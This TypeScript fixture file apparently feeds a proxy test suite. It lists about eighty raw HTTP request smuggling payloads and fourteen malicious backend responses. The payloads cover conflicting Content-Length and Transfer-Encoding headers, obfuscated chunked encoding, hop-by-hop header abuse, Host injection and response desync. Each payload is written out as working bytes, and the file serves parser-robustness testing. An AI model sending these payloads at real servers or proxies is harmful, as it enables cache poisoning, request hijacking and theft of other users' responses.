/** Bytes on the wire that try to make two servers disagree on where a message ends, or on its recipient. */
export interface RawAttack {
  readonly name: string;
  /** What a client writes; `{host}` is the address of the server. */
  readonly bytes: string;
}

/** A second request that servers may read as one or not. */
const inner = 'GET /next HTTP/1.1\r\nHost: {host}\r\n\r\n';
/** A request inside the body of another: a server that responds to it has read a body as a request. */
const hidden = 'GET /smuggled HTTP/1.1\r\nHost: {host}\r\n\r\n';
const sizeOf = (text: string): number => text.replaceAll('{host}', '127.0.0.1:00000').length;
const size = sizeOf(hidden);
const line = (method = 'POST', target = '/attack'): string =>
  `${method} ${target} HTTP/1.1\r\nHost: {host}\r\n`;
/** An empty chunked body, and then the inner request. */
const chunked = `0\r\n\r\n${inner}`;

/** The same body, framed by two headers that contradict each other or that somebody may read otherwise. */
const framed = (name: string, headers: string, body = chunked): RawAttack => ({
  name,
  bytes: `${line()}${headers}\r\n\r\n${body}`,
});
const asLength = `Content-Length: ${sizeOf(chunked)}`;
const withLength = (name: string, value: string): RawAttack =>
  framed(name, `Content-Length: ${value}`, `{"a":1}${inner}`);
const withConnection = (name: string, headers: string): RawAttack => ({
  name,
  bytes: `${line('DELETE')}${headers}\r\nContent-Length: ${size}\r\n\r\n${hidden}`,
});
const withChunk = (name: string, body: string): RawAttack => framed(name, 'Transfer-Encoding: chunked', body);
const withHost = (name: string, hosts: string): RawAttack => ({
  name,
  bytes: `GET /attack HTTP/1.1\r\n${hosts}\r\n`,
});

export const rawAttacks: readonly RawAttack[] = [
  framed('content-length and chunked', `${asLength}\r\nTransfer-Encoding: chunked`),
  framed('chunked and content-length', `Transfer-Encoding: chunked\r\n${asLength}`),
  framed('chunked, with a space before the colon', `${asLength}\r\nTransfer-Encoding : chunked`),
  framed('chunked behind a tab', `${asLength}\r\nTransfer-Encoding:\tchunked`),
  framed('chunked behind a vertical tab', `${asLength}\r\nTransfer-Encoding: \x0bchunked`),
  framed('chunked with an x', `${asLength}\r\nTransfer-Encoding: xchunked`),
  framed('chunked in quotes', `${asLength}\r\nTransfer-Encoding: "chunked"`),
  framed('chunked before identity', `${asLength}\r\nTransfer-Encoding: chunked, identity`),
  framed('identity before chunked', `Transfer-Encoding: identity, chunked`),
  framed('gzip before chunked', `Transfer-Encoding: gzip, chunked`),
  framed('two transfer codings', `${asLength}\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: cow`),
  framed('a coding in a folded line', `${asLength}\r\nTransfer-Encoding:\r\n chunked`),
  framed('a coding behind a bare line feed', `${asLength}\r\nX: y\nTransfer-Encoding: chunked`),
  framed('a coding with an underscore', `${asLength}\r\nTransfer_Encoding: chunked`),
  framed('a coding behind a null byte', `${asLength}\r\nX: \0\r\nTransfer-Encoding: chunked`),
  framed('a coding behind a bare carriage return', `${asLength}\r\nX: y\rTransfer-Encoding: chunked`),
  withLength('a length with a plus', '+7'),
  withLength('a length below zero', '-7'),
  withLength('a length in hex', '0x7'),
  withLength('a length with an exponent', '7e0'),
  withLength('two lengths in one', '7, 7'),
  withLength('two different lengths in one', `7, ${size}`),
  withLength('two equal lengths', '7\r\nContent-Length: 7'),
  withLength('two different lengths', `7\r\nContent-Length: ${7 + size}`),
  withLength('a length beyond 64 bits', '18446744073709551623'),
  withLength('a length with leading zeros', '0000000000000000007'),
  withLength('no length', ''),
  withLength('a length and a space before the colon', `7\r\nContent-Length : ${7 + size}`),
  withConnection('Connection names content-length', 'Connection: content-length'),
  withConnection('Connection names it in capitals', 'Connection: CONTENT-LENGTH'),
  withConnection('Connection names it in a list', 'Connection: close, content-length'),
  withConnection('two Connection headers', 'Connection: keep-alive\r\nConnection: content-length'),
  withConnection('Connection names it between tabs', 'Connection: \tcontent-length\t'),
  withConnection('Connection names host', 'Connection: host'),
  withConnection('Connection names host and length', 'Connection: host,content-length,content-type'),
  withConnection('Connection names transfer-encoding', 'Connection: transfer-encoding'),
  withConnection('Proxy-Connection names content-length', 'Proxy-Connection: content-length'),
  withConnection('Keep-Alive names content-length', 'Keep-Alive: content-length'),
  withChunk('a chunk size with a plus', `+2\r\n{}\r\n${chunked}`),
  withChunk('a chunk size in 0x', `0x2\r\n{}\r\n${chunked}`),
  withChunk('a chunk size below zero', `-2\r\n{}\r\n${chunked}`),
  withChunk('a chunk size that overflows', `10000000000000002\r\n{}\r\n${chunked}`),
  withChunk('a chunk size before a bare line feed', `2\n{}\n${chunked}`),
  withChunk('a chunk without its line end', `2\r\n{}${chunked}`),
  withChunk('an extension with a line feed', `2;a=\n${size.toString(16)}\r\n{}\r\n${chunked}`),
  withChunk(
    'trailers that frame',
    `0\r\nContent-Length: 7\r\nTransfer-Encoding: chunked\r\nHost: evil\r\n\r\n${inner}`,
  ),
  withChunk('a last chunk of many zeros', `00000000\r\n\r\n`),
  withChunk('bytes behind the last chunk', `0\r\nX\r\n\r\n${inner}`),
  { name: 'a body on GET', bytes: `${line('GET')}Content-Length: ${size}\r\n\r\n${hidden}` },
  { name: 'a body on HEAD', bytes: `${line('HEAD')}Content-Length: ${size}\r\n\r\n${hidden}` },
  { name: 'half a body', bytes: `${line()}Content-Length: 10000\r\n\r\n${hidden}` },
  {
    name: 'an expectation',
    bytes: `${line()}Expect: 100-continue\r\nContent-Length: ${size}\r\n\r\n${hidden}`,
  },
  {
    name: 'an unknown expectation',
    bytes: `${line()}Expect: 100-continuee\r\nContent-Length: ${size}\r\n\r\n${hidden}`,
  },
  {
    name: 'a change to WebSocket',
    bytes: `${line('GET')}Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n${inner}`,
  },
  {
    name: 'a change to HTTP/2',
    bytes: `${line('GET')}Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n${inner}`,
  },
  { name: 'the preface of HTTP/2', bytes: 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' },
  { name: 'HTTP/0.9', bytes: 'GET /attack\r\n' },
  {
    name: 'chunked in HTTP/1.0',
    bytes: `POST /attack HTTP/1.0\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n${chunked}`,
  },
  { name: 'two versions', bytes: 'GET /attack HTTP/1.1 HTTP/1.1\r\nHost: {host}\r\n\r\n' },
  { name: 'tabs in the request line', bytes: 'GET\t/attack\tHTTP/1.1\r\nHost: {host}\r\n\r\n' },
  { name: 'a space in the target', bytes: `GET /attack ${'x'.repeat(10)} HTTP/1.1\r\nHost: {host}\r\n\r\n` },
  { name: 'an absolute target', bytes: 'GET http://evil.test/attack HTTP/1.1\r\nHost: {host}\r\n\r\n' },
  { name: 'a target with two slashes', bytes: 'GET //evil.test/attack HTTP/1.1\r\nHost: {host}\r\n\r\n' },
  {
    name: 'a target with line ends',
    bytes: 'GET /attack%0d%0aHost:%20evil HTTP/1.1\r\nHost: {host}\r\n\r\n',
  },
  { name: 'a target with a raw null byte', bytes: 'GET /attack\0 HTTP/1.1\r\nHost: {host}\r\n\r\n' },
  { name: 'CONNECT', bytes: 'CONNECT 127.0.0.1:1 HTTP/1.1\r\nHost: {host}\r\n\r\n' },
  { name: 'OPTIONS of all', bytes: 'OPTIONS * HTTP/1.1\r\nHost: {host}\r\n\r\n' },
  { name: 'a method that is not a token', bytes: 'GE(T /attack HTTP/1.1\r\nHost: {host}\r\n\r\n' },
  { name: 'bare line feeds', bytes: 'GET /attack HTTP/1.1\nHost: {host}\n\n' },
  {
    name: 'line ends before the request',
    bytes: `${'\r\n'.repeat(1000)}GET /attack HTTP/1.1\r\nHost: {host}\r\n\r\n`,
  },
  withHost('no Host', ''),
  withHost('an empty Host', 'Host: \r\n'),
  withHost('two Hosts', 'Host: {host}\r\nHost: evil.test\r\n'),
  withHost('a Host of somebody else', 'Host: evil.test\r\n'),
  withHost('a Host with a user', 'Host: {host}@evil.test\r\n'),
  withHost('a Host with a port beyond all', 'Host: 127.0.0.1:99999999\r\n'),
  withHost('a Host with a space', 'Host: a b\r\n'),
  { name: 'a hundred requests at once', bytes: `${line('GET')}\r\n`.repeat(100) },
  { name: 'a header of 100 KB', bytes: `${line('GET')}X: ${'a'.repeat(100_000)}\r\n\r\n` },
  { name: 'twenty thousand headers', bytes: `${line('GET')}${'X: 1\r\n'.repeat(20_000)}\r\n` },
];

/** What a server behind the proxy writes to a request of `/attack`, so that some of it might reach another client. */
export const badResponses: readonly RawAttack[] = [
  { name: 'two responses', bytes: response('200 OK', 'mine').repeat(2) },
  { name: 'ten responses', bytes: response('200 OK', 'mine').repeat(10) },
  {
    name: 'a body longer than its length',
    bytes: `HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\n${response('200 OK', 'stolen')}`,
  },
  {
    name: 'two lengths',
    bytes: `HTTP/1.1 200 OK\r\nContent-Length: 0\r\nContent-Length: 60\r\n\r\n${response('200 OK', 'stolen')}`,
  },
  {
    name: 'a length and chunks',
    bytes: `HTTP/1.1 200 OK\r\nContent-Length: 80\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${response('200 OK', 'stolen')}`,
  },
  {
    name: 'a body behind 204',
    bytes: `HTTP/1.1 204 No Content\r\nContent-Length: 60\r\n\r\n${response('200 OK', 'stolen')}`,
  },
  {
    name: 'a body behind 304',
    bytes: `HTTP/1.1 304 Not Modified\r\nContent-Length: 60\r\n\r\n${response('200 OK', 'stolen')}`,
  },
  {
    name: 'a change of protocol',
    bytes: `HTTP/1.1 101 Switching Protocols\r\nConnection: upgrade\r\nUpgrade: x\r\n\r\n${response('200 OK', 'stolen')}`,
  },
  {
    name: 'informational responses',
    bytes: `${'HTTP/1.1 103 Early Hints\r\n\r\n'.repeat(50)}${response('200 OK', 'mine')}`,
  },
  {
    name: 'a chunk size that is not a number',
    bytes: `HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n${response('200 OK', 'stolen')}`,
  },
  {
    name: 'bytes behind the last chunk',
    bytes: `HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${response('200 OK', 'stolen')}`,
  },
  {
    name: 'a Connection that names the length',
    bytes: `HTTP/1.1 200 OK\r\nConnection: content-length\r\nContent-Length: 4\r\n\r\nmine`,
  },
  { name: 'a null byte in a header', bytes: `HTTP/1.1 200 OK\r\nX: a\0b\r\nContent-Length: 4\r\n\r\nmine` },
  { name: 'garbage', bytes: '\0\xff\r\n\r\n' },
];

function response(status: string, body: string): string {
  return `HTTP/1.1 ${status}\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
}
